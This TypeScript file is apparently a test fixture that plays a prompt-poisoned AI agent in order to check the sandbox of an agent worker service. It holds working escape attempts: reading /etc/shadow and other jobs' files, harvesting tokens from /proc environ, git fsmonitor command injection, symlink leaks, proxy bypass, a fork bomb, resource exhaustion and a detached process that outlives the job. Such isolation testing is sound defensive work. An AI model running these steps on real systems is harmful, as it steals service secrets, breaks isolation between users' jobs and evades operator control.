// A scripted hostile agent: what an agent told by a poisoned prompt would try.
// The attacks and their targets come from a `[hostile: <base64 JSON>]` marker in
// ./TASK.md; without one it behaves as the scripted agent (fake-kiro), so one
// worker can run hostile jobs beside normal ones. Every attempt prints one line
//   HOSTILE {"attempt": "...", "ok": <did it work>, "detail": "..."}
// and the tests check the host side as well: a line is a claim, not the proof.
import { execFileSync, spawn } from 'node:child_process';
import { appendFileSync, existsSync, readdirSync, readFileSync, symlinkSync, writeFileSync, mkdirSync } from 'node:fs';
import { lookup } from 'node:dns/promises';
import { request } from 'node:http';
import { connect } from 'node:net';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

export interface HostilePlan {
  attacks: string[];
  stateDir: string;
  /** The job running beside this one (another repository). */
  other: { jobId: string; tree: string; mirror: string; agentPid: number };
  ownMirror: string;
  serviceDir: string;
  /** A server on the host's loopback. */
  probeUrl?: string;
  /** Under allow:, an allowed and a refused server. */
  allowedUrl?: string;
  deniedUrl?: string;
  marker: string;
  /** A file the operator put in KIRO_AGENT_READ_PATHS. */
  readPathFile?: string;
  /** A host path that a command run outside the sandbox would create. */
  hostProbe?: string;
}

const report = (attempt: string, ok: boolean, detail = '') =>
  process.stdout.write(`HOSTILE ${JSON.stringify({ attempt, ok, detail: detail.slice(0, 300) })}\n`);
const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

function tryIt(attempt: string, fn: () => string | void): void {
  try {
    const detail = fn();
    report(attempt, true, detail ?? '');
  } catch (e) {
    report(attempt, false, (e as NodeJS.ErrnoException).code ?? String(e));
  }
}

function httpGet(url: string, viaProxy?: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const target = new URL(url);
    const opts = viaProxy
      ? { host: new URL(viaProxy).hostname, port: new URL(viaProxy).port, path: url, headers: { host: target.host } }
      : { host: target.hostname, port: target.port, path: target.pathname };
    const req = request({ ...opts, timeout: 3000 }, (res) => {
      let body = '';
      res.on('data', (d: Buffer) => (body += d.toString()));
      res.on('end', () => (res.statusCode === 200 ? resolve(body) : reject(new Error(`HTTP ${res.statusCode}`))));
    });
    req.on('timeout', () => req.destroy(new Error('timeout')));
    req.on('error', reject);
    req.end();
  });
}

/** CONNECT through the proxy, then a plain GET inside the tunnel. */
function viaConnect(proxy: string, url: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const p = new URL(proxy);
    const t = new URL(url);
    const sock = connect(Number(p.port), p.hostname);
    let buf = '';
    let tunnelled = false;
    sock.setTimeout(3000, () => sock.destroy(new Error('timeout')));
    sock.on('connect', () => sock.write(`CONNECT ${t.host} HTTP/1.1\r\nHost: ${t.host}\r\n\r\n`));
    sock.on('data', (d: Buffer) => {
      buf += d.toString();
      if (!tunnelled) {
        const end = buf.indexOf('\r\n\r\n');
        if (end < 0) return;
        const status = /^HTTP\/1\.[01] (\d{3})/.exec(buf)?.[1];
        if (status !== '200') return reject(new Error(`CONNECT ${status}`));
        tunnelled = true;
        buf = '';
        sock.write(`GET ${t.pathname} HTTP/1.1\r\nHost: ${t.host}\r\nConnection: close\r\n\r\n`);
      }
    });
    sock.on('end', () => (tunnelled && / 200 /.test(buf) ? resolve(buf.split('\r\n\r\n')[1] ?? '') : reject(new Error('no answer'))));
    sock.on('error', reject);
  });
}

async function attack(name: string, plan: HostilePlan): Promise<void> {
  const { stateDir, other, ownMirror } = plan;
  switch (name) {
    case 'read':
      tryIt("read another job's record", () => readFileSync(join(stateDir, 'jobs', `${other.jobId}.json`), 'utf8'));
      tryIt("read another job's log", () => readFileSync(join(stateDir, 'logs', `${other.jobId}.log`), 'utf8'));
      tryIt("read another job's working tree", () => readFileSync(join(other.tree, 'TASK.md'), 'utf8'));
      tryIt('list the state directory', () => {
        const names = readdirSync(stateDir);
        if (names.some((n) => n === 'jobs' || n === 'logs')) return names.join(',');
        throw Object.assign(new Error("only the job's own paths"), { code: `ONLY_OWN(${names.join(',')})` });
      });
      tryIt("read another repository's mirror", () => readFileSync(join(other.mirror, 'config'), 'utf8'));
      tryIt("read the service's home", () => {
        const names = readdirSync('/root');
        if (names.length === 0) throw Object.assign(new Error('empty'), { code: 'EMPTY' });
        return names.join(',');
      });
      tryIt(
        'read /etc/shadow',
        () =>
          readFileSync('/etc/shadow', 'utf8').slice(0, 20) ||
          (() => {
            throw Object.assign(new Error('empty'), { code: 'EMPTY' });
          })(),
      );
      return;
    case 'write': {
      const targets: [string, string][] = [
        ['the state directory', join(stateDir, 'pwned')],
        ['the job records', join(stateDir, 'jobs', 'pwned.json')],
        ["another slot's tree", join(other.tree, 'pwned')],
        ["the mirror's refs", join(ownMirror, 'refs', 'heads', 'pwned')],
        ["the mirror's objects", join(ownMirror, 'objects', 'pwned')],
        ["the mirror's hooks", join(ownMirror, 'hooks', 'pre-push')],
        ['/etc', '/etc/pwned'],
        ["the service's folder", join(plan.serviceDir, 'pwned')],
      ];
      for (const [what, path] of targets) tryIt(`write into ${what}`, () => writeFileSync(path, plan.marker));
      tryIt("change the mirror's config", () =>
        appendFileSync(join(ownMirror, 'config'), '[core]\n\tfsmonitor = /bin/sh -c "touch /tmp/pwned"\n'),
      );
      tryIt("repoint the worktree's .git file", () => writeFileSync('.git', 'gitdir: /tmp/evil\n'));
      tryIt('write its own tree', () => writeFileSync('allowed.txt', 'mine\n'));
      return;
    }
    case 'git':
      for (const args of [
        ['status', '--short'],
        ['diff', '--stat'],
        ['log', '-1', '--format=%s'],
      ]) {
        tryIt(`git ${args[0]} works`, () => execFileSync('git', args, { encoding: 'utf8' }));
      }
      tryIt('git commit', () => execFileSync('git', ['commit', '--allow-empty', '-m', 'sneaky'], { encoding: 'utf8', stdio: 'pipe' }));
      return;
    case 'procs': {
      const pids = readdirSync('/proc').filter((n) => /^\d+$/.test(n));
      const cmds = pids.map((p) => {
        try {
          return readFileSync(`/proc/${p}/cmdline`, 'utf8').replace(/\0/g, ' ').trim();
        } catch {
          return '?';
        }
      });
      report(
        'see processes outside the sandbox',
        pids.length > 8 || cmds.some((c) => /server\.mjs|mocha|fake-kiro/.test(c)),
        `${pids.length}: ${cmds.join(' | ')}`,
      );
      tryIt("signal the other job's agent", () => void process.kill(other.agentPid, 'SIGKILL'));
      return;
    }
    case 'environ': {
      let all = '';
      for (const p of readdirSync('/proc').filter((n) => /^\d+$/.test(n))) {
        try {
          all += readFileSync(`/proc/${p}/environ`, 'utf8') + '\n';
        } catch {
          /* not readable */
        }
      }
      report(
        'read service secrets from /proc/*/environ',
        /KIRO_WORKER_TOKEN|KIRO_GITHUB_TOKEN|KIRO_GITHUB_APP/.test(all),
        Buffer.from(all).toString('base64'),
      );
      // Printed whole so the test can search it for the real secret values.
      process.stdout.write(`ENVIRON ${Buffer.from(all).toString('base64')}\n`);
      return;
    }
    case 'net':
      if (plan.probeUrl)
        await httpGet(plan.probeUrl).then(
          (b) => report('reach a host server directly', true, b),
          (e: Error) => report('reach a host server directly', false, e.message),
        );
      await lookup('registry.npmjs.org').then(
        (a) => report('resolve a public name', true, a.address),
        (e: NodeJS.ErrnoException) => report('resolve a public name', false, e.code ?? e.message),
      );
      return;
    case 'proxy': {
      const proxy = process.env.HTTPS_PROXY ?? '';
      if (plan.allowedUrl)
        await viaConnect(proxy, plan.allowedUrl).then(
          (b) => report('reach the allowed host through the proxy', true, b),
          (e: Error) => report('reach the allowed host through the proxy', false, e.message),
        );
      if (plan.deniedUrl) {
        await viaConnect(proxy, plan.deniedUrl).then(
          (b) => report('reach a host off the list through the proxy', true, b),
          (e: Error) => report('reach a host off the list through the proxy', false, e.message),
        );
        await httpGet(plan.deniedUrl, proxy).then(
          (b) => report('plain HTTP to a host off the list', true, b),
          (e: Error) => report('plain HTTP to a host off the list', false, e.message),
        );
        await httpGet(plan.deniedUrl).then(
          (b) => report('reach a host off the list directly', true, b),
          (e: Error) => report('reach a host off the list directly', false, e.message),
        );
      }
      return;
    }
    case 'forkbomb':
      report('fork bomb started', true);
      spawn('/bin/sh', ['-c', 'b() { b | b & }; b'], { stdio: 'ignore' });
      await sleep(60_000);
      return;
    case 'memory': {
      const hog: Buffer[] = [];
      for (let i = 0; i < 256; i++) {
        hog.push(Buffer.alloc(16 * 1024 * 1024, i));
        if (i % 8 === 0) process.stdout.write(`allocated ${(i + 1) * 16} MiB\n`);
      }
      report('allocate 4 GiB', true, String(hog.length));
      return;
    }
    case 'disk':
      mkdirSync('fill', { recursive: true });
      for (let i = 0; i < 200; i++) {
        writeFileSync(join('fill', `f${i}`), Buffer.alloc(4 * 1024 * 1024, 1));
        if (i % 4 === 0) await sleep(20);
      }
      report('fill 800 MiB of disk', true);
      return;
    case 'output': {
      const line = `${'y'.repeat(1023)}\n`;
      for (let i = 0; i < 64 * 1024; i++) process.stdout.write(line);
      await sleep(30_000);
      return;
    }
    case 'background': {
      const child = spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)', plan.marker], { detached: true, stdio: 'ignore' });
      child.unref();
      report('left a background process', true, String(child.pid));
      writeFileSync('background.txt', 'a helper keeps running after me\n');
      return;
    }
    case 'home': {
      const home = process.env.HOME ?? '';
      tryIt('read its configuration from the template HOME', () => readFileSync(join(home, '.agentrc', 'config.toml'), 'utf8'));
      tryIt('find a file an earlier job left in HOME', () => readFileSync(join(home, 'scratch.txt'), 'utf8'));
      tryIt('write in its HOME', () => writeFileSync(join(home, 'scratch.txt'), plan.marker));
      tryIt('write in its /tmp', () => writeFileSync('/tmp/scratch.txt', plan.marker));
      if (plan.readPathFile) {
        const file = plan.readPathFile;
        tryIt('read a file under KIRO_AGENT_READ_PATHS', () => readFileSync(file, 'utf8'));
        tryIt('write under KIRO_AGENT_READ_PATHS', () => writeFileSync(file, plan.marker));
      }
      return;
    }
    case 'nested': {
      // A repository of its own inside the tree, whose config would run a program in any git that looks into it.
      const git = (args: string[], cwd = '.') =>
        execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@e', ...args], { cwd, stdio: 'pipe' });
      tryIt('make a nested repository', () => {
        git(['init', '-q', 'sub']);
        writeFileSync(join('sub', 'inner.txt'), 'inner\n');
        git(['add', '.'], 'sub');
        git(['commit', '-q', '-m', 'inner'], 'sub');
        appendFileSync(join('sub', '.git', 'config'), `[core]\n\tfsmonitor = "touch ${plan.hostProbe ?? '/tmp/kiro-nested'}"\n`);
      });
      return;
    }
    case 'symlink':
      tryIt("plant a link to another job's record", () => symlinkSync(join(stateDir, 'jobs', `${other.jobId}.json`), 'leak-record'));
      tryIt('plant a link to the state directory', () => symlinkSync(stateDir, 'leak-state'));
      tryIt('plant a link to /etc/hostname', () => symlinkSync('/etc/hostname', 'leak-hostname'));
      writeFileSync('links.txt', 'links planted\n');
      return;
    default:
      report(`unknown attack ${name}`, false);
  }
}

async function main(): Promise<number> {
  const task = existsSync('TASK.md') ? readFileSync('TASK.md', 'utf8') : '';
  const m = /\[hostile: ([A-Za-z0-9+/=]+)\]/.exec(task);
  if (!m?.[1]) {
    // A normal job: behave as the scripted agent does.
    const fakeKiro = join(dirname(fileURLToPath(import.meta.url)), 'fake-kiro.mjs');
    const child = spawn(process.execPath, [fakeKiro, ...process.argv.slice(2)], { stdio: 'inherit' });
    return new Promise((resolve) => child.on('exit', (code) => resolve(code ?? 1)));
  }
  const plan = JSON.parse(Buffer.from(m[1], 'base64').toString('utf8')) as HostilePlan;
  for (const name of plan.attacks) await attack(name, plan);
  // A change of its own, so the job ends as a normal one would: pushed.
  writeFileSync('hostile.txt', `attacks tried: ${plan.attacks.join(', ')}\n`);
  process.stdout.write('HOSTILE-DONE\n');
  return 0;
}

main().then(
  (code) => process.exit(code),
  (e) => {
    process.stderr.write(`hostile-agent: ${String(e)}\n`);
    process.exit(70);
  },
);
